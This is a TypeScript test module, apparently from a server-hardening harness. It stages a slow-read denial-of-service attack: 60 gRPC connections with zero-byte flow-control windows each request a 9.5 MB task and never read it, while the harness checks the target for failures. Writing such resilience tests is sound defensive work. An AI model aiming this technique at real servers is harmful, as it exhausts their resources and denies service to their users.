import { setTimeout } from "node:timers/promises";
import { defineServerAttack, type ServerAttack } from "../attack.ts";
import {
  createGrpcSendRequest,
  encodeGrpcAttackMessage,
  findGrpcVictimProblems,
  GrpcAttackConnection,
  setUpGrpcServer,
} from "../grpc-attack-client.ts";

const CONNECTIONS = 60;
let taskId = "";

export const attack: ServerAttack = defineServerAttack({
  title: "120 gRPC calls request a task of 9.5 MB and never read it",
  setUpServer: setUpGrpcServer,
  prepare: async (target) => {
    const caller = await GrpcAttackConnection.open(target, { authorization: target.credentials.stranger });
    const { response } = await caller.callUnary("SendMessage", createGrpcSendRequest("", "large"));
    taskId = (response as { task?: { id?: string } } | undefined)?.task?.id ?? "";
    caller.destroy();
  },
  run: async (target) => {
    if (taskId === "") return { problems: ["the attack has no task"] };
    const problems: string[] = [];
    let refusedCalls = 0;
    for (let at = 0; at < CONNECTIONS; at++) {
      const { stranger } = target.credentials;
      // A window of zero bytes: the server can send the headers only.
      const connection = await GrpcAttackConnection.open(target, {
        authorization: stranger,
        initialWindowSize: 0,
      });
      for (const operation of ["GetTask", "GetTask"] as const) {
        const stream = connection.startCall(operation);
        stream?.on("trailers", () => refusedCalls++);
        stream?.end(encodeGrpcAttackMessage(operation, { id: taskId, tenant: "large" }));
      }
      if (at % 10 === 0) problems.push(...(await findGrpcVictimProblems(target)));
    }
    await setTimeout(1_000, undefined, { signal: target.signal });
    problems.push(...(await findGrpcVictimProblems(target)));
    return { figures: { refusedCalls }, problems };
  },
});
